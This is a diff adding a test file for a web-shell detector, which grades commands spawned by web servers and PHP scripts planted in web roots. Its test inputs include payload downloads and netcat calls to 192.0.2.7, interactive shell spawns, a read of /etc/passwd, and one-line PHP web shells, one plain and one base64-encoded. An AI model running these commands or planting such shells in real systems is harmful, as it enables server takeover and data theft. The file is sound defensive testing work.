@@ -1,0 +1,125 @@
+import { describe, expect, test } from "vitest";
+import type { Fact, Process } from "../events/fact.ts";
+import type { Context, Detector, Match } from "./detector.ts";
+import { webShellCommand } from "./web-shell.command.ts";
+import { webShellContent } from "./web-shell.content.ts";
+import { webShellFile } from "./web-shell.file.ts";
+
+const context = { threats: {}, userName: (uid: number) => (uid === 33 ? "www-data" : undefined) } as unknown as Context;
+
+/** Feeds facts to one started detector and gathers what it says. */
+function run(detector: Detector, facts: readonly Fact[], settings: object = {}): Match[] {
+  const judge = detector.start(detector.settings.parse(settings), context);
+  return facts.flatMap((fact) => [judge.judge(fact) ?? []].flat());
+}
+const process = (argv: readonly string[], more: Partial<Process> = {}): Process => ({
+  pid: 70,
+  ppid: 60,
+  exe: `/usr/bin/${argv[0]?.split("/").at(-1)}`,
+  argv,
+  cwd: "/root",
+  uid: 0,
+  ...more,
+});
+const ran = (argv: readonly string[], more: Partial<Process> = {}, at = 1000): Fact => ({
+  kind: "process.started",
+  at,
+  process: process(argv, more),
+});
+const script = (text: string, more: Partial<Process> = {}, at = 1000) => ran(["sh", "-c", text], more, at);
+const below = (exe: string, argv: readonly string[] = [exe]) => ({ ancestors: [{ pid: 60, exe, argv, uid: 0 }] });
+const grade = (found: readonly Match[]) => found.map(({ confidence }) => confidence ?? "medium");
+const server = { uid: 33, user: "www-data", cwd: "/var/www/html", ...below("/usr/sbin/php-fpm8.2") };
+const served = (line: string, more: Partial<Process> = {}, at = 1000) => script(line, { ...server, ...more }, at);
+
+describe("a child of a web server", () => {
+  test.each([
+    ["id", "medium"],
+    ["cat /etc/passwd", "medium"],
+    ["wget -O /tmp/x http://192.0.2.7/x", "medium"],
+    ["perl /tmp/x.txt", "medium"],
+    ["uname; hostname; ps", "medium"],
+    ["nc 192.0.2.7 80", "high"],
+    ["bash -i", "high"],
+    ["python3 -c 'import pty'", "high"],
+    ["ps aux", "low"],
+  ])("%s is graded %s", (line, confidence) => {
+    expect(grade(run(webShellCommand, [served(line)]))).toEqual([confidence]);
+  });
+
+  test.each([
+    "convert in.png -resize 50% out.png",
+    "/usr/sbin/sendmail -t -i",
+    "mysql --version",
+    "php -r 'echo PHP_VERSION;'",
+    "ffmpeg -i a.mp4 b.webm",
+  ])("%s raises nothing", (line) => {
+    expect(run(webShellCommand, [served(line)])).toEqual([]);
+  });
+
+  test("is found up to four levels below, not five, unless its account tells", () => {
+    const chain = (depth: number): Partial<Process> => ({
+      uid: 0,
+      user: "root",
+      ancestors: [
+        ...Array.from({ length: depth - 1 }, (_, i) => ({ pid: 60 - i, exe: "/usr/bin/dash", argv: ["sh"] })),
+        { pid: 9, exe: "/usr/sbin/nginx", argv: ["nginx"] },
+      ],
+    });
+    expect(run(webShellCommand, [script("id", chain(4))])).toHaveLength(1);
+    expect(run(webShellCommand, [script("id", chain(5))])).toEqual([]);
+    expect(run(webShellCommand, [script("id", { ...chain(5), uid: 33, user: undefined })])).toHaveLength(1);
+  });
+
+  test("of cron under the same account raises nothing", () => {
+    expect(run(webShellCommand, [script("id", { uid: 33, ...below("/usr/sbin/cron") })])).toEqual([]);
+  });
+
+  test("seen on three days is a habit, over a restart too; a network shell never is", () => {
+    const day = 86_400_000;
+    const days = (line: string) => [1, 2, 3, 4].map((n) => served(line, {}, n * day));
+    expect(run(webShellCommand, days("id -u"))).toHaveLength(3);
+    expect(run(webShellCommand, days("nc 192.0.2.7 80"))).toHaveLength(4);
+    const settings = webShellCommand.settings.parse({});
+    const first = webShellCommand.start(settings, context);
+    for (const fact of days("id -u")) first.judge(fact);
+    const saved = JSON.parse(JSON.stringify(first.snapshot?.()));
+    expect(webShellCommand.start(settings, context, saved).judge(served("id -u", {}, 5 * day))).toBeUndefined();
+    expect(webShellCommand.start(settings, context, [["x"], 7, null]).judge(served("id -u"))).toBeDefined();
+  });
+});
+
+describe("a planted script", () => {
+  test.each([
+    "echo '<?php system($_GET[1]); ?>' > /var/www/html/a.php",
+    "echo PD9waHAgZXZhbCgkX1BPU1RbMV0pOw== | base64 -d > x.php",
+    "wget -O /var/www/html/b.php http://192.0.2.7/b",
+  ])("%s fires", (line) => {
+    expect(run(webShellContent, [script(line)])).toHaveLength(1);
+  });
+
+  test.each(["echo '<?php phpinfo();' > /var/www/html/i.php", "echo 'system($_GET[1])' > /root/notes.txt"])(
+    "%s raises nothing",
+    (line) => {
+      expect(run(webShellContent, [script(line)])).toEqual([]);
+    },
+  );
+
+  const created = (path: string, exe: string): Fact => ({
+    kind: "file.changed",
+    at: 1,
+    operation: "create",
+    file: { path },
+    process: process(["x"], { exe }),
+  });
+
+  test("as a file: by the server into uploads, not by its updater, a package or git", () => {
+    const seen = (path: string, exe: string) => grade(run(webShellFile, [created(path, exe)]));
+    expect(seen("/var/www/html/uploads/a.php", "/usr/sbin/apache2")).toEqual(["medium"]);
+    expect(seen("/var/www/html/wp-content/plugins/x/a.php", "/usr/sbin/php-fpm8.2")).toEqual(["low"]);
+    expect(seen("/var/www/html/a.php", "/usr/bin/cp")).toEqual(["low"]);
+    expect(seen("/var/www/html/a.php", "/usr/bin/git")).toEqual([]);
+    expect(seen("/var/www/html/a.css", "/usr/bin/bash")).toEqual([]);
+    expect(seen("/srv/src/a.php", "/usr/bin/bash")).toEqual([]);
+  });
+});
